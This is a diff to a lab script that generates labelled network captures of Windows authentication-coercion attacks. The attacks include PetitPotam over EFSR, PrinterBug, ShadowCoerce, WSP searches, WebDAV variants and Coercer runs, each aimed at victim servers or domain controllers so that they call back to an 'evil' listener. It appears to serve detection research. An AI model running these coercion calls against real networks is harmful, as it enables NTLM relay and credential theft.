@@ -181,7 +181,7 @@ coerce_pipe_encrypted() { # method label pipe form name
 
 coerce_level() { # method label pipe-or-tcp level form name
   local binding="ncacn_np:$SRV[\\pipe\\$3]" options=()
-  [ "$3" = tcp ] && binding="ncacn_ip_tcp:$SRV[49664]"
+  [ "$3" = tcp ] && binding="ncacn_ip_tcp:$SRV[$DYNAMIC_PORT]"
   [ "$1" = par-0 ] && options=(--object 9940ca8e-512f-4c58-88a9-61098d6896bd)
   callback_with libsmbclient
   record "$6"
@@ -217,7 +217,7 @@ efsr() {
 }
 
 EFSR_PIPE="ncacn_np:$SRV[\\pipe\\lsarpc]"
-EFSR_PORT="ncacn_ip_tcp:$SRV[49664]"
+EFSR_PORT="ncacn_ip_tcp:$SRV[$DYNAMIC_PORT]"
 
 scenario_efsr_pipe_connect() { efsr efsr_pipe_connect "RPC authentication at CONNECT over a pipe: credentials in the bind, the stub in clear." "$EFSR_PIPE" --level 2; }
 scenario_efsr_pipe_integrity() { efsr efsr_pipe_integrity "PKT_INTEGRITY over a pipe: the stub in clear, a verifier behind it." "$EFSR_PIPE" --level 5; }
@@ -242,7 +242,7 @@ scenario_efsr_big_endian() {
   callback_with libsmbclient
   record efsr_big_endian
   listen evil $EVIL
-  in_host evil timeout 20 /usr/bin/python3 "$HERE/call_samba.py" "ncacn_ip_tcp:$SRV[49664,bigendian]" efsr-0 "$FILE" > "$RUN/call.log" 2>&1 || true
+  in_host evil timeout 20 /usr/bin/python3 "$HERE/call_samba.py" "ncacn_ip_tcp:$SRV[$DYNAMIC_PORT,bigendian]" efsr-0 "$FILE" > "$RUN/call.log" 2>&1 || true
   truth "${COERCED_HERE[@]}" family=coercion expect=coercion:efsr expect=callback:smb tools="samba-python 4.17.12, impacket 0.13.1" \
     notes="Samba's client in big-endian byte order: lengths, UUIDs and the path's characters are turned round, the answers are not."
 }
@@ -256,15 +256,15 @@ names() {
   truth "${COERCED_HERE[@]}" family=coercion expect=coercion:efsr expect=callback:smb tools="$IMPACKET_CALL" notes="$2"
 }
 
-scenario_path_hostname() { names path_hostname "The path names the listener by its DNS name, which the victim asks for first." "\\\\evil.lab.example\\share\\file.txt"; }
-scenario_path_short_name() { names path_short_name "The path names the listener by one label." "\\\\evil\\share\\file.txt"; }
+scenario_path_hostname() { names path_hostname "The path names the listener by its DNS name, which the victim asks for first." "\\\\$(name_of evil).$DNS_DOMAIN\\share\\file.txt"; }
+scenario_path_short_name() { names path_short_name "The path names the listener by one label." "\\\\$(name_of evil)\\share\\file.txt"; }
 scenario_path_unc_prefix() { names path_unc_prefix "The path in its long form, \\\\?\\UNC\\host." "\\\\?\\UNC\\$EVIL\\share\\file.txt"; }
 
 scenario_path_ipv6_literal() {
   callback_with libsmbclient
   record path_ipv6_literal
   listen6 evil
-  call "$EFSR_PIPE" efsr-0 "\\\\fd10--66.ipv6-literal.net\\share\\file.txt"
+  call "$EFSR_PIPE" efsr-0 "\\\\${EVIL6//:/-}.ipv6-literal.net\\share\\file.txt"
   truth malicious=yes attacker=$EVIL victim=$SRV listener=$EVIL6 also=victim:$SRV6 also=attacker:$EVIL6 also=listener:$EVIL \
     family=coercion expect=coercion:efsr expect=callback:smb tools="$IMPACKET_CALL" \
     notes="The call over IPv4 names an IPv6 address in the form that Windows paths allow, and the callback goes over IPv6: victim and listener have two addresses each."
@@ -274,7 +274,7 @@ scenario_ipv6_all() {
   callback_with libsmbclient
   record ipv6_all
   listen6 evil
-  call "ncacn_ip_tcp:$SRV6[49664]" efsr-0 "\\\\$EVIL6\\share\\file.txt"
+  call "ncacn_ip_tcp:$SRV6[$DYNAMIC_PORT]" efsr-0 "\\\\$EVIL6\\share\\file.txt"
   truth malicious=yes attacker=$EVIL6 victim=$SRV6 listener=$EVIL6 family=coercion expect=coercion:efsr expect=callback:smb tools="$IMPACKET_CALL" \
     notes="Call and callback over IPv6."
 }
@@ -321,13 +321,13 @@ webdav() {
 }
 
 WEBDAV_SEEN=(expect=callback:http expect=webdav)
-scenario_webdav_efsr() { webdav webdav_efsr "host@80 in the path: the victim's redirector comes over HTTP, with NTLM as the machine account." efsr-0 "$EFSR_PIPE" "\\\\evil@80\\share\\file.txt" expect=coercion:efsr "${WEBDAV_SEEN[@]}"; }
+scenario_webdav_efsr() { webdav webdav_efsr "host@80 in the path: the victim's redirector comes over HTTP, with NTLM as the machine account." efsr-0 "$EFSR_PIPE" "\\\\$(name_of evil)@80\\share\\file.txt" expect=coercion:efsr "${WEBDAV_SEEN[@]}"; }
 scenario_webdav_efsr_tcp() { webdav webdav_efsr_tcp "WebDAV path by address, call over TCP." efsr-4 "$EFSR_PORT" "\\\\$EVIL@80\\share\\file.txt" expect=coercion:efsr "${WEBDAV_SEEN[@]}"; }
-scenario_webdav_rprn() { webdav webdav_rprn "PrinterBug with a WebDAV path." rprn-65 "ncacn_np:$SRV[\\pipe\\spoolss]" "\\\\evil@80\\print" expect=coercion:rprn "${WEBDAV_SEEN[@]}"; }
-scenario_webdav_fsrvp() { webdav webdav_fsrvp "ShadowCoerce with a WebDAV path and its full DNS name." fsrvp-8 "ncacn_np:$SRV[\\pipe\\fssagentrpc]" "\\\\evil.lab.example@80\\share" expect=coercion:fsrvp "${WEBDAV_SEEN[@]}"; }
+scenario_webdav_rprn() { webdav webdav_rprn "PrinterBug with a WebDAV path." rprn-65 "ncacn_np:$SRV[\\pipe\\spoolss]" "\\\\$(name_of evil)@80\\print" expect=coercion:rprn "${WEBDAV_SEEN[@]}"; }
+scenario_webdav_fsrvp() { webdav webdav_fsrvp "ShadowCoerce with a WebDAV path and its full DNS name." fsrvp-8 "ncacn_np:$SRV[\\pipe\\fssagentrpc]" "\\\\$(name_of evil).$DNS_DOMAIN@80\\share" expect=coercion:fsrvp "${WEBDAV_SEEN[@]}"; }
 scenario_webdav_smb3enc() {
   set_encryption default
-  webdav webdav_smb3enc "WebDAV callback after an encrypted call." efsr-0 "$EFSR_PIPE" "\\\\evil@80\\share\\file.txt" expect=coercion:callback expect=webdav
+  webdav webdav_smb3enc "WebDAV callback after an encrypted call." efsr-0 "$EFSR_PIPE" "\\\\$(name_of evil)@80\\share\\file.txt" expect=coercion:callback expect=webdav
   set_encryption off
 }
 
@@ -352,7 +352,7 @@ wsp_search() { # name notes path labels...
 }
 
 scenario_wsp() { wsp_search wsp "A search query over the pipe MsFteWds whose scope is a file URL at the listener. Not DCE/RPC." "file:////$EVIL/share" expect=coercion:wsp expect=callback:smb; }
-scenario_wsp_name() { wsp_search wsp_name "The scope names the listener by its DNS name." "file:////evil.lab.example/SomeFolder" expect=coercion:wsp expect=callback:smb; }
+scenario_wsp_name() { wsp_search wsp_name "The scope names the listener by its DNS name." "file:////$(name_of evil).$DNS_DOMAIN/SomeFolder" expect=coercion:wsp expect=callback:smb; }
 scenario_wsp_smb3enc() {
   set_encryption default
   wsp_search wsp_smb3enc "The same query inside SMB3 encryption." "file:////$EVIL/share" expect=coercion:callback
@@ -377,7 +377,7 @@ scenario_coercer_burst() {
   callback_with impacket
   record coercer_burst
   listen evil $EVIL
-  in_host evil timeout 200 "$COERCER/coercer" coerce --always-continue -u alice -p "$ALICE_PW" -d $DOMAIN \
+  in_host evil timeout 200 "$COERCER/coercer" coerce --always-continue -u "$ALICE" -p "$ALICE_PW" -d $DOMAIN \
     -t $SRV -l $EVIL --auth-type smb --filter-transport-name msrpc --delay 0 > "$RUN/coercer.log" 2>&1 || true
   truth "${COERCED_HERE[@]}" family=coercion expect=coercion:efsr expect=coercion:rprn expect=coercion:dfsnm expect=coercion:fsrvp \
     expect=coercion:even expect=callback:smb expect=recon:pipes tools="$COERCER_CALL" \
@@ -407,7 +407,7 @@ refused() { # name notes label... -- command
 
 scenario_refused_dfsnm() { refused refused_dfsnm "The domain controller answers NetrDfsRemoveStdRoot with a fault: an attempt, readable, without a callback." coercion:dfsnm -- call "ncacn_np:$DC[\\pipe\\netdfs]" dfsnm-13 "$EVIL"; }
 scenario_refused_even() { refused refused_even "The domain controller answers ElfrOpenBELW with a fault." coercion:even -- call "ncacn_np:$DC[\\pipe\\eventlog]" even-9 "\\??\\UNC\\$EVIL\\share\\file.txt"; }
-scenario_refused_rprn() { refused refused_rprn "PrinterBug against Samba's own spooler on the domain controller, which never connects back." coercion:rprn -- on_evil rpcclient "$DC" -U "$DOMAIN/bob%$BOB_PW" --use-kerberos=off -c 'rffpcnex dc1'; }
+scenario_refused_rprn() { refused refused_rprn "PrinterBug against Samba's own spooler on the domain controller, which never connects back." coercion:rprn -- on_evil rpcclient "$DC" -U "$DOMAIN/$BOB%$BOB_PW" --use-kerberos=off -c "rffpcnex $DC_NAME"; }
 scenario_refused_bind() { refused refused_bind "The domain controller does not know EFSR: the bind is rejected and no call is ever made." -- call "ncacn_np:$DC[\\pipe\\lsarpc]" efsr-0 "$FILE"; }
 
 # A domain controller as the victim: stand-ins beside the real one. What it does is its own logon
@@ -422,7 +422,7 @@ dc_victim() { # name notes method binding path labels...
 }
 
 scenario_dc_efsr_pipe() { dc_victim dc_efsr_pipe "The domain controller is coerced over the pipe efsrpc." efsr-0 "ncacn_np:$DC[\\pipe\\efsrpc]" "$FILE" expect=coercion:efsr expect=callback:smb; }
-scenario_dc_efsr_tcp() { dc_victim dc_efsr_tcp "The domain controller is coerced over TCP." efsr-4 "ncacn_ip_tcp:$DC[49664]" "$FILE" expect=coercion:efsr expect=callback:smb; }
-scenario_dc_efsr_other() { dc_victim dc_efsr_other "The domain controller is coerced by EfsRpcQueryUsersOnFile." efsr-6 "ncacn_ip_tcp:$DC[49664]" "$FILE" expect=coercion:efsr expect=callback:smb; }
+scenario_dc_efsr_tcp() { dc_victim dc_efsr_tcp "The domain controller is coerced over TCP." efsr-4 "ncacn_ip_tcp:$DC[$DYNAMIC_PORT]" "$FILE" expect=coercion:efsr expect=callback:smb; }
+scenario_dc_efsr_other() { dc_victim dc_efsr_other "The domain controller is coerced by EfsRpcQueryUsersOnFile." efsr-6 "ncacn_ip_tcp:$DC[$DYNAMIC_PORT]" "$FILE" expect=coercion:efsr expect=callback:smb; }
 scenario_dc_fsrvp() { dc_victim dc_fsrvp "The domain controller is coerced over FSRVP." fsrvp-9 "ncacn_np:$DC[\\pipe\\fssagentrpc]" "\\\\$EVIL\\share" expect=coercion:fsrvp expect=callback:smb; }
 scenario_dc_593() { dc_victim dc_593 "The domain controller is coerced over port 593." efsr-0 "ncacn_http:$DC[593]" "$FILE" expect=coercion:efsr expect=callback:smb; }
